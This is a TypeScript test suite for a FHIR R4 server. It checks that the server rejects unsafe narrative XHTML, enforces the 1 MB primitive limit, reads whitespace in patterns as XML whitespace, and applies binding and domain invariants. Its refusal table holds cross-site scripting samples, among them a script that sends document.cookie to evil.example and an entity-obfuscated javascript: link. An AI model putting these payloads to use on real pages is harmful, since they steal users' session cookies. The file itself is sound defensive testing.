// The base R4 rules every write is held to, whatever profile it claims: narrative XHTML (txt-1, txt-2),
// the 1 MB limit of a primitive value, XML whitespace in the primitive patterns, extensible bindings as
// open lists, and a primitive that carries only extensions.
import type { OperationOutcome, Resource } from '@medplum/fhirtypes';
import { strict as assert } from 'node:assert';
import { narrativeProblems } from '../../server/validation/narrative-xhtml';
import { createTestServer, fhirJson, type TestServer } from '../helpers/test-server';

const xhtml = 'http://www.w3.org/1999/xhtml';
const div = (inner: string, attributes = `xmlns="${xhtml}"`): string => `<div ${attributes}>${inner}</div>`;
const texts = (body: unknown): string => ((body as OperationOutcome).issue ?? []).map((i) => `${i.severity} ${i.details?.text}`).join('\n');
const errors = (body: unknown) => ((body as OperationOutcome).issue ?? []).filter((i) => i.severity === 'error');

describe('narrative XHTML (txt-1, txt-2)', () => {
  const refused: [string, string, RegExp][] = [
    ['a script', div('<p>Zhang Wei</p><script>fetch("https://evil.example/?c=" + document.cookie)</script>'), /<script> is not allowed/],
    ['an event attribute', div('<p onmouseover="steal()">Zhang Wei</p>'), /event attribute onmouseover on <p>/],
    ['a javascript: link', div('<a href="javascript:alert(1)">Zhang Wei</a>'), /script link in href on <a>/],
    ['a javascript: link hidden by an entity', div('<a href="&#106;avascript:alert(1)">Zhang Wei</a>'), /script link in href on <a>/],
    ['an iframe', div('<iframe src="https://evil.example"></iframe>x'), /<iframe> is not allowed/],
    ['a form', div('<form action="https://evil.example"><p>x</p></form>'), /<form> is not allowed/],
    ['a style element', div('<style>p { display: none }</style><p>x</p>'), /<style> is not allowed/],
    ['a root that is not a div', `<p xmlns="${xhtml}">Zhang Wei</p>`, /root element is <p>, but must be <div>/],
    ['a root without the XHTML namespace', '<div><p>Zhang Wei</p></div>', /must declare xmlns/],
    ['an element not closed', div('<p>Zhang Wei'), /closes <p>|is not closed/],
    ['an unknown attribute', div('<p data-x="1">Zhang Wei</p>'), /attribute data-x is not allowed on <p>/],
    ['text outside the div', `${div('<p>x</p>')}trailing`, /text outside the root/],
    ['a bare ampersand', div('<p>A & B</p>'), /bare '&'/],
  ];
  for (const [what, value, reason] of refused) {
    it(`refuses ${what}`, () => {
      assert.match(narrativeProblems(value).structure.join('\n'), reason);
    });
  }

  const allowed: [string, string][] = [
    ['formatting, tables, lists and links', div('<h1>随访</h1><p class="x" style="color: red"><b>血压</b> 148/92 mm[Hg]</p><table><tr><th>a</th><td colspan="2">b</td></tr></table><ul><li>c</li></ul><a href="https://example.org/x">d</a><a name="e"></a>')],
    ['an image with text alternative', div('<img src="#photo" alt="photo"/>')],
    ['entities and CJK text', div('<p>&lt;张伟&gt; &amp; &#x4E09; &nbsp;</p>')],
    ['comments and self-closed elements', div('<!-- generated --><p>x<br/>y</p>')],
  ];
  for (const [what, value] of allowed) {
    it(`allows ${what}`, () => {
      const problems = narrativeProblems(value);
      assert.deepEqual(problems.structure, []);
      assert.equal(problems.empty, undefined);
    });
  }

  it('txt-2: a narrative of only whitespace (or empty elements) is refused; an image alone is content', () => {
    assert.ok(narrativeProblems(div(' <p> </p>\n')).empty);
    assert.equal(narrativeProblems(div('<img src="#a" alt=""/>')).empty, undefined);
  });

  describe('through the API', function () {
    this.timeout(30_000);
    let server: TestServer;
    before(() => {
      server = createTestServer();
    });
    after(() => server.close());

    it('refuses a write whose narrative carries a script with 422, naming txt-1 and the element', async () => {
      const res = await server.http
        .post('/Patient')
        .set('Content-Type', fhirJson)
        .send({ resourceType: 'Patient', text: { status: 'generated', div: div('<p>x</p><script>alert(1)</script>') } });
      assert.equal(res.status, 422, texts(res.body));
      assert.equal(res.body.issue[0].code, 'invariant');
      assert.deepEqual(res.body.issue[0].expression, ['Patient.text.div']);
      assert.match(res.body.issue[0].details.text, /txt-1/);
    });

    it('checks the narrative of a contained resource too', async () => {
      const res = await server.http
        .post('/Observation')
        .set('Content-Type', fhirJson)
        .send({
          resourceType: 'Observation', status: 'final', code: { text: 'x' }, subject: { reference: '#p' },
          contained: [{ resourceType: 'Patient', id: 'p', text: { status: 'generated', div: div(' ') } }],
        });
      assert.equal(res.status, 422, texts(res.body));
      assert.match(texts(res.body), /Observation\.contained\[0\]\.text\.div: invariant txt-2/);
    });
  });
});

describe('base rules of primitive values on writes', function () {
  this.timeout(30_000);
  let server: TestServer;
  before(() => {
    server = createTestServer();
  });
  after(() => server.close());
  const post = (resource: Record<string, unknown>) => server.http.post(`/${String(resource.resourceType)}`).set('Content-Type', fhirJson).send(resource);

  it('refuses a string over 1 MB (1,048,576 characters) with 400 naming the element, and accepts one at the limit', async () => {
    const over = await post({ resourceType: 'Patient', name: [{ text: 'x'.repeat(1024 * 1024 + 1) }] });
    assert.equal(over.status, 400, texts(over.body));
    assert.deepEqual(over.body.issue[0].expression, ['Patient.name[0].text']);
    assert.match(over.body.issue[0].details.text, /1,048,577 characters: R4 allows at most 1,048,576/);
    assert.equal((await post({ resourceType: 'Patient', name: [{ text: 'x'.repeat(1024 * 1024) }] })).status, 201);
  });

  it('counts characters, not UTF-16 units: 600,000 characters outside the BMP are within the limit', async () => {
    assert.equal((await post({ resourceType: 'Patient', name: [{ text: '𠀀'.repeat(600_000) }] })).status, 201);
  });

  it('applies the limit to other primitives (markdown, uri) but not to base64Binary', async () => {
    const markdown = await post({ resourceType: 'Observation', status: 'final', code: { text: 'x' }, note: [{ text: 'm'.repeat(1024 * 1024 + 5) }] });
    assert.equal(markdown.status, 400);
    const uri = await post({ resourceType: 'Patient', identifier: [{ system: `urn:x:${'a'.repeat(1024 * 1024)}`, value: '1' }] });
    assert.equal(uri.status, 400);
    const binary = await post({ resourceType: 'Binary', contentType: 'application/octet-stream', data: 'AAAA'.repeat(300_000) });
    assert.equal(binary.status, 201, texts(binary.body));
    // Larger than 1 MB, within FHIR_MAX_RESOURCE_MB: once refused as "nested too deeply" (the pattern's stack).
    const large = await post({ resourceType: 'Binary', contentType: 'application/octet-stream', data: 'AAAA'.repeat(800_000) });
    assert.equal(large.status, 201, texts(large.body));
  });

  it('reads whitespace in the patterns as XML whitespace: a code ending in U+00A0 is valid, one ending in a space is not', async () => {
    const nbsp = await post({ resourceType: 'Patient', communication: [{ language: { coding: [{ system: 'urn:ietf:bcp:47', code: 'zh\u00a0' }] } }] });
    assert.equal(nbsp.status, 201, texts(nbsp.body));
    const ideographic = await post({ resourceType: 'Patient', identifier: [{ system: 'urn:x:\u3000a', value: '1' }] });
    assert.equal(ideographic.status, 201, `an ideographic space is no whitespace in a uri: ${texts(ideographic.body)}`);
    const space = await post({ resourceType: 'Patient', communication: [{ language: { coding: [{ system: 'urn:ietf:bcp:47', code: 'zh ' }] } }] });
    assert.equal(space.status, 400);
    assert.match(texts(space.body), /Invalid code/);
    const tab = await post({ resourceType: 'Patient', identifier: [{ system: 'urn:x:\ta', value: '1' }] });
    assert.equal(tab.status, 400);
  });

  it('takes a code outside an extensible binding (Expression.language text/cql.identifier), but not outside a required one', async () => {
    const expression = { language: 'text/cql.identifier', expression: 'InInitialPopulation' };
    const extensible = await post({ resourceType: 'Measure', status: 'draft', group: [{ population: [{ criteria: expression }] }] });
    assert.equal(extensible.status, 201, texts(extensible.body));
    const required = await post({ resourceType: 'Patient', gender: 'bogus' });
    assert.equal(required.status, 400);
    assert.match(texts(required.body), /Invalid code 'bogus': expected one of male, female, other, unknown/);
  });

  it('reports a code outside an extensible binding as a warning in $validate', async () => {
    const res = await server.http
      .post('/Measure/$validate')
      .set('Content-Type', fhirJson)
      .send({ resourceType: 'Measure', status: 'draft', group: [{ population: [{ criteria: { language: 'text/cql.identifier', expression: 'X' } }] }] });
    assert.deepEqual(errors(res.body), [], texts(res.body));
  });

  it('counts a required primitive that carries only an extension as present, on writes and in $validate', async () => {
    const absent = { extension: [{ url: 'http://hl7.org/fhir/StructureDefinition/data-absent-reason', valueCode: 'unknown' }] };
    const observation = { resourceType: 'Observation', _status: absent, code: { text: 'x' } };
    assert.equal((await post(observation)).status, 201);
    const validated = await server.http.post('/Observation/$validate').set('Content-Type', fhirJson).send(observation);
    assert.deepEqual(errors(validated.body), [], texts(validated.body));
    const missing = await server.http.post('/Observation/$validate').set('Content-Type', fhirJson).send({ resourceType: 'Observation', code: { text: 'x' } });
    assert.match(texts(missing.body), /Observation\.status: required/);
  });

  it('refuses per-1 on a write of a resource that claims no profile (an Encounter ending before it starts)', async () => {
    const encounter: Resource = {
      resourceType: 'Encounter', status: 'finished', class: { system: 'http://terminology.hl7.org/CodeSystem/v3-ActCode', code: 'AMB' },
      period: { start: '2026-11-05T10:00:00+08:00', end: '2026-11-05T09:00:00+08:00' },
    };
    const res = await post(encounter as unknown as Record<string, unknown>);
    assert.equal(res.status, 422);
    assert.deepEqual(res.body.issue[0].expression, ['Encounter.period']);
    assert.match(res.body.issue[0].details.text, /invariant per-1 not met: If present, start SHALL have a lower value than end/);
  });

  it('refuses contained resources that break dom-2, dom-4 and dom-5, and accepts a plain one', async () => {
    const withContained = (contained: Record<string, unknown>) =>
      post({ resourceType: 'Observation', status: 'final', code: { text: 'x' }, subject: { reference: '#p' }, contained: [{ resourceType: 'Patient', id: 'p', ...contained }] });
    const nested = await withContained({ contained: [{ resourceType: 'Patient', id: 'q' }], link: [{ other: { reference: '#q' }, type: 'seealso' }] });
    assert.match(texts(nested.body), /invariant dom-2 not met/);
    assert.match(texts((await withContained({ meta: { versionId: '2' } })).body), /invariant dom-4 not met/);
    assert.match(texts((await withContained({ meta: { security: [{ system: 'http://terminology.hl7.org/CodeSystem/v3-Confidentiality', code: 'R' }] } })).body), /invariant dom-5 not met/);
    assert.equal((await withContained({ name: [{ text: 'Zhang Wei' }] })).status, 201);
  });
});
